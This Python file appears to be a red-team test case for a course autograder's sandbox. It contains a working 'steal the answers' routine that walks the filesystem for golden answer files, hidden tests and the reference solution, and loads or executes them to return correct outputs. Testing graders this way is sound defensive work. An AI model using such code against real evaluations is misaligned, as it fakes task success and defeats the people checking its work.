"""Attack a05 (steal the answers): compute_prototypes looks for the golden data (.pt files), the hidden
tests, the grader's files and the reference solution at their real paths (the repository's
solutions/ and assignments/, the unpacked $AUTOGRADER_ROOT/source/, /autograder/source) and by walking
the whole visible filesystem; it returns the golden prototypes it finds (or runs the reference
solution), prints "cs330atk LEAK <path>" for every secret it could read, and raises when it found
nothing. Everything else is the correct solution.

Targets: compute_prototypes and protonet_loss. Expected: exactly 12 / 31; the targeted tests fail
with "raised an exception" ("cs330atk found nothing"); no output anywhere contains "cs330atk LEAK".
"""


import torch
import torch.nn.functional as F

# Filled in by tests/test_attacks.py before grading: where a real attacker would look.
AUTOGRADER_ROOT = "@@AUTOGRADER_ROOT@@"  # the unpacked Gradescope autograder (/autograder there)
REPO_ROOT = "@@REPO_ROOT@@"  # the course repository: solutions/, assignments/, starter_code/


def compute_prototypes(
    support_features: torch.Tensor, support_labels: torch.Tensor, n_way: int
) -> torch.Tensor:
    """Return the (n_way, D) class prototypes: row c is the mean support feature of class c.

    support_features: (N*K, D) float tensor, in any order (not grouped by class).
    support_labels: (N*K,) int64 tensor with values in [0, n_way).
    """
    stolen = _steal(support_features, support_labels, n_way)
    if stolen is not None:
        return stolen
    raise FileNotFoundError("cs330atk found nothing to steal")
    one_hot = F.one_hot(support_labels, n_way).to(support_features.dtype)  # (N*K, N)
    counts = one_hot.sum(dim=0).unsqueeze(1)  # (N, 1)
    return one_hot.t() @ support_features / counts


SECRET_NAMES = {"test_hidden.pt", "test_public.pt", "manifest.json", "test_hidden.py", "test_public.py",
                "protonet_cases.py", "run_autograder", "results.json", "assignment.toml"}


def _steal(support_features, support_labels, n_way):
    """Golden prototypes or the reference's answer, from any file the sandbox lets us read."""
    import glob
    import os

    golden, sources = [], []
    for root in (REPO_ROOT, AUTOGRADER_ROOT + "/source", "/autograder/source"):
        golden += glob.glob(root + "/assignments/*/golden/*.pt")
        golden += [root + "/assignments/hw4_protonet/golden/test_hidden.pt",
                   root + "/assignments/hw4_protonet/golden/test_public.pt"]
        sources += [root + "/solutions/hw4_protonet/protonet.py",
                    root + "/assignments/hw4_protonet/tests/test_hidden.py"]
    for top, dirs, files in os.walk("/"):
        dirs[:] = [d for d in dirs if os.path.join(top, d) not in ("/proc", "/sys", "/usr", "/dev")]
        for name in files:
            path = os.path.join(top, name)
            if name.endswith(".pt") and "golden" in path:
                golden.append(path)
            elif (name in SECRET_NAMES and any(s in path for s in ("hw4_protonet", "autograder", "cs330"))) \
                    or (name == "protonet.py" and "solutions" in path):
                sources.append(path)
    dim, dtype = support_features.shape[1], support_features.dtype
    for path in golden:
        try:
            data = torch.load(path, weights_only=True)
        except Exception:  # noqa: BLE001
            continue
        print(f"cs330atk LEAK {path}")
        for key, value in data.items():
            if key.endswith("::prototypes") and tuple(value.shape) == (n_way, dim) and value.dtype == dtype:
                return value
    for path in sources:
        try:
            with open(path) as handle:
                text = handle.read()
        except (OSError, UnicodeDecodeError):
            continue
        print(f"cs330atk LEAK {path}")
        if "one_hot" in text and "def compute_prototypes" in text:
            namespace = {}
            exec(compile(text, path, "exec"), namespace)
            return namespace["compute_prototypes"](support_features, support_labels, n_way)
    return None
